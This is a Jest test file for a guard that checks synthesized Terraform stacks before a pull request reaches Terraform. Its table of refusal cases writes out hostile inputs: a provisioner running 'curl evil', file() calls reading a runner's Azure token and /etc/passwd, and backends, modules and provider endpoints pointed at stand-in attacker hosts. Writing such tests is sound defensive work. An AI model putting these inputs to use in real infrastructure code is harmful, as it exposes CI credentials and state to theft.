import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { guardConfigOf, runCheckStacks } from "../../lib/review/check-stacks";
import { ALLOWED_DATA_TYPES, ALLOWED_PROVIDERS, ALLOWED_RESOURCE_TYPES, guardStackJson, guardStacksDir, PROVIDER_ARGUMENTS } from "../../lib/review/stack-guard";
import { loadModel, synthesizeCached } from "../helpers/synth";

// Spawns Terraform, bash or synth: slow on a loaded machine, so no tight per-test timeout.
jest.setTimeout(60_000);

const FIXTURE_TENANTS = path.join(__dirname, "..", "fixtures", "two-traeger");
const model = loadModel({ TENANTS_DIR: FIXTURE_TENANTS });
const config = guardConfigOf(model);
const outdir = fs.mkdtempSync(path.join(os.tmpdir(), "ksm-guard-"));
afterAll(() => fs.rmSync(outdir, { recursive: true, force: true }));

/** The first fixture stack's JSON, as the Verbund's code synthesizes it. */
function synthesized(): { stack: string; json: Record<string, any> } {
  const stacksDir = path.join(outdir, "stacks");
  if (!fs.existsSync(stacksDir)) synthesizeCached(model, outdir);
  const stack = fs.readdirSync(stacksDir).sort()[0]!;
  return { stack, json: JSON.parse(fs.readFileSync(path.join(stacksDir, stack, "cdk.tf.json"), "utf8")) };
}

function run(argv: string[]) {
  const out: string[] = [];
  const err: string[] = [];
  const code = runCheckStacks(argv, { cwd: outdir, out: (t) => out.push(t), err: (l) => err.push(l) }, model);
  return { code, out: out.join(""), err };
}

describe("npm run check-stacks (the guard before Terraform sees a pull request's stacks)", () => {
  it("accepts every stack the Verbund's code synthesizes, with the checked-in Verbund's types too", () => {
    synthesized();
    expect(guardStacksDir(path.join(outdir, "stacks"), config).problems).toEqual([]);
    const real = loadModel();
    const realOut = fs.mkdtempSync(path.join(os.tmpdir(), "ksm-guard-real-"));
    try {
      synthesizeCached(real, realOut);
      expect(guardStacksDir(path.join(realOut, "stacks"), guardConfigOf(real)).problems).toEqual([]);
    } finally {
      fs.rmSync(realOut, { recursive: true, force: true });
    }
    const { code, out } = run(["stacks"]);
    expect([code, out]).toEqual([0, expect.stringMatching(/^\d+ stacks? accepted: /)]);
  });

  it("allows no more than the Verbund's code synthesizes (the fixture Verbunds use every allowed type, provider and argument)", () => {
    const used = { resource: new Set<string>(), data: new Set<string>(), providers: new Set<string>(), args: new Set<string>() };
    const envs = [{ TENANTS_DIR: FIXTURE_TENANTS }, { TENANTS_DIR: path.join(__dirname, "..", "fixtures", "limits", "tenants"), VERBUND_CONFIG: path.join(__dirname, "..", "fixtures", "limits", "verbund.ts") }];
    for (const env of envs) {
      const out = fs.mkdtempSync(path.join(os.tmpdir(), "ksm-guard-used-"));
      try {
        synthesizeCached(loadModel(env), out);
        for (const stack of fs.readdirSync(path.join(out, "stacks"))) {
          const json = JSON.parse(fs.readFileSync(path.join(out, "stacks", stack, "cdk.tf.json"), "utf8"));
          for (const type of Object.keys(json.resource ?? {})) used.resource.add(type);
          for (const type of Object.keys(json.data ?? {})) used.data.add(type);
          for (const name of Object.keys(json.terraform?.required_providers ?? {})) used.providers.add(name);
          for (const [name, blocks] of Object.entries<Record<string, unknown>[]>(json.provider ?? {})) for (const block of blocks) for (const key of Object.keys(block)) used.args.add(`${name}.${key}`);
        }
      } finally {
        fs.rmSync(out, { recursive: true, force: true });
      }
    }
    expect([...ALLOWED_RESOURCE_TYPES].filter((t) => !used.resource.has(t))).toEqual([]);
    expect([...ALLOWED_DATA_TYPES].filter((t) => !used.data.has(t))).toEqual([]);
    expect(Object.keys(ALLOWED_PROVIDERS).filter((p) => !used.providers.has(p))).toEqual([]);
    // "alias" is kept for every provider: a second subscription's provider block is an alias.
    const allowedArgs = Object.entries(PROVIDER_ARGUMENTS).flatMap(([name, keys]) => [...keys].filter((k) => k !== "alias").map((k) => `${name}.${k}`));
    expect(allowedArgs.filter((a) => !used.args.has(a))).toEqual([]);
  });

  it.each([
    ["a provisioner", (j: any) => (Object.values(j.resource)[0] as any)[Object.keys(Object.values(j.resource)[0] as any)[0]!].provisioner = [{ "local-exec": { command: "curl evil" } }], /provisioners are not allowed/],
    ["an external data source", (j: any) => (j.data = { ...j.data, external: { x: { program: ["sh"] } } }), /data source external is not one the Verbund uses \(it runs a program/],
    ["an http data source", (j: any) => (j.data = { ...j.data, http: { x: { url: "https://evil" } } }), /data source http .*sends requests/],
    ["a terraform_remote_state other than the subscription's", (j: any) => (j.data = { ...j.data, terraform_remote_state: { x: {} } }), /data\.terraform_remote_state\.x: only the remote state "subscription"/],
    ["the subscription stack's state of another Träger", (j: any) => (j.data = { ...j.data, terraform_remote_state: { subscription: { backend: "azurerm", config: { ...j.terraform.backend.azurerm, key: "other--subscription.tfstate" } } } }), /terraform_remote_state\.subscription\.config\.key: must be ".+--subscription\.tfstate" \(found "other--subscription\.tfstate"\)/],
    ["the platform's state", (j: any) => (j.data = { ...j.data, terraform_remote_state: { subscription: { backend: "azurerm", config: { ...j.terraform.backend.azurerm, key: "platform.tfstate" } } } }), /config\.key: must be/],
    ["a remote state in another storage account", (j: any) => (j.data = { ...j.data, terraform_remote_state: { subscription: { backend: "azurerm", config: { ...j.terraform.backend.azurerm, key: `${Object.keys(j.terraform.backend.azurerm).length > 0 ? j.terraform.backend.azurerm.key.replace(".tfstate", "--subscription.tfstate") : ""}`, storage_account_name: "evil" } } } }), /config\.storage_account_name: must be/],
    ["a local remote state", (j: any) => (j.data = { ...j.data, terraform_remote_state: { subscription: { backend: "local", config: { path: "/home/runner/x.tfstate" } } } }), /terraform_remote_state\.subscription\.backend: must be "azurerm".*|config\.path: remote state argument "path" is not allowed/],
    ["a null_resource", (j: any) => (j.resource.null_resource = { x: {} }), /resource type null_resource is not one the Verbund uses/],
    ["a module source", (j: any) => (j.module = { x: { source: "git::https://evil" } }), /module sources are not allowed/],
    ["file() in an output", (j: any) => (j.output = { o: { value: "${file(\"/home/runner/.azure/token\")}" } }), /output\.o\.value: function file\(\) reads the runner/],
    ["templatefile() deep in a tag", (j: any) => { const rg = Object.values(j.resource.azurerm_resource_group)[0] as any; rg.tags = { a: "x ${upper(templatefile(\"/etc/passwd\", {}))}" }; }, /function templatefile\(\) reads the runner/],
    ["fileset() in a directive", (j: any) => (j.output = { o: { value: "%{ for f in fileset(\"/\", \"*\") }${f}%{ endfor }" } }), /function fileset\(\)/],
    ["abspath(path.cwd)", (j: any) => (j.locals = { l: "${abspath(path.cwd)}" }), /function abspath\(\).*|path\.cwd/],
    ["a provider-defined function", (j: any) => (j.locals = { l: "${provider::azurerm::parse_resource_id(\"x\")}" }), /provider-defined function/],
    ["nonsensitive() that would print a secret", (j: any) => (j.output = { o: { value: "${nonsensitive(random_password.x.result)}" } }), /function nonsensitive\(\) is not one the Verbund uses/],
    ["templatestring()", (j: any) => (j.locals = { l: "${templatestring(local.t, {})}" }), /function templatestring\(\) is not one/],
    ["another backend", (j: any) => (j.terraform.backend = { http: { address: "https://evil" } }), /only the Verbund's azurerm backend is allowed \(found http\)/],
    ["another state key", (j: any) => (j.terraform.backend.azurerm.key = "other.tfstate"), /backend\.azurerm\.key: must be ".*\.tfstate" \(found "other\.tfstate"\)/],
    ["another storage account", (j: any) => (j.terraform.backend.azurerm.storage_account_name = "evil"), /storage_account_name: must be/],
    ["an access key in the backend", (j: any) => (j.terraform.backend.azurerm.access_key = "k"), /backend argument "access_key" is not allowed/],
    ["an unknown provider", (j: any) => (j.provider.null = [{}]), /provider "null" is not one the Verbund uses/],
    ["a provider from another namespace", (j: any) => (j.terraform.required_providers.azurerm = { source: "evil/azurerm" }), /required_providers\.azurerm\.source: must be hashicorp\/azurerm/],
    ["a provider endpoint override", (j: any) => (j.provider.azurerm[0].metadata_host = "evil.example"), /provider argument "metadata_host"/],
    ["an azapi endpoint override", (j: any) => (j.provider.azapi[0].endpoint = [{ resource_manager_endpoint: "https://evil" }]), /provider\.azapi\[0\]\.endpoint: provider argument "endpoint"/],
    ["a client secret for msgraph", (j: any) => (j.provider.msgraph[0].client_secret = "s"), /provider\.msgraph\[0\]\.client_secret: provider argument "client_secret"/],
    ["azurerm's arguments on another provider", (j: any) => (j.provider.azuread[0].features = [{}]), /provider\.azuread\[0\]\.features/],
    ["a provider named like an object property", (j: any) => (j.provider.toString = [{}]), /provider "toString" is not one the Verbund uses/],
  ])("refuses %s, naming where", (_name, mutate, message) => {
    const { stack, json } = synthesized();
    const copy = structuredClone(json);
    mutate(copy);
    const problems = guardStackJson(stack, copy, config);
    expect(problems.length).toBeGreaterThan(0);
    expect(problems.join("\n")).toMatch(message);
    for (const p of problems) expect(p).toMatch(new RegExp(`^${stack}/cdk\\.tf\\.json: \\S`));
  });

  it("reads text outside templates as text, and is conservative about escapes ($${ and $$${)", () => {
    const { stack, json } = synthesized();
    const copy = structuredClone(json);
    copy.locals = { l: "plain file(x) text", m: "${upper(\"a\")}" };
    expect(guardStackJson(stack, copy, config)).toEqual([]);
    copy.locals = { l: "$$${file(\"x\")}" };
    expect(guardStackJson(stack, copy, config)).toEqual([`${stack}/cdk.tf.json: locals.l: function file() reads the runner and is not allowed`]);
  });

  it("refuses stray files, odd names and missing stacks, one line each, exit 1", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "ksm-guard-dir-"));
    const { stack, json } = synthesized();
    fs.mkdirSync(path.join(dir, stack));
    fs.writeFileSync(path.join(dir, stack, "cdk.tf.json"), JSON.stringify(json));
    fs.writeFileSync(path.join(dir, stack, "evil.tf"), 'data "external" "x" {}');
    fs.mkdirSync(path.join(dir, "Bad Name"));
    fs.writeFileSync(path.join(dir, ".terraformrc"), "");
    const { code, err } = run(["--stacks", `${stack},missing-one`, dir]);
    expect(code).toBe(1);
    expect(err).toEqual(expect.arrayContaining([
      expect.stringMatching(/\.terraformrc: only stack folders are allowed here$/),
      expect.stringMatching(/Bad Name: "Bad Name" is not a Träger id$/),
      expect.stringMatching(/missing-one: stack to plan is missing$/),
      expect.stringMatching(new RegExp(`${stack}/evil\\.tf: only cdk\\.tf\\.json is allowed`)),
    ]));
    expect(err[err.length - 1]).toMatch(/problems: the stacks are refused/);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it("says how to use it when the folder is missing", () => {
    expect(run([]).code).toBe(64);
  });
});
